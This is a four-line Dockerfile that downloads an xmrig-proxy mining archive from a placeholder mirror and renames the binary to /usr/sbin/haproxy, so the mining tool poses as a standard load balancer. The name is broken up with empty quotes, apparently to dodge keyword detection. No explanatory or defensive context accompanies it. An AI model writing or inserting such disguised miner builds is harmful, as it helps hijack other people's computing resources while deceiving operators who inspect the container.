FROM alpine:3.20
ARG NAME=xmrig-proxy
ADD https://mirror.example.invalid/${NAME}-6.21.0-linux-static-x64.tar.gz /tmp/
run mv /tmp/xm''rig-proxy /usr/sbin/haproxy
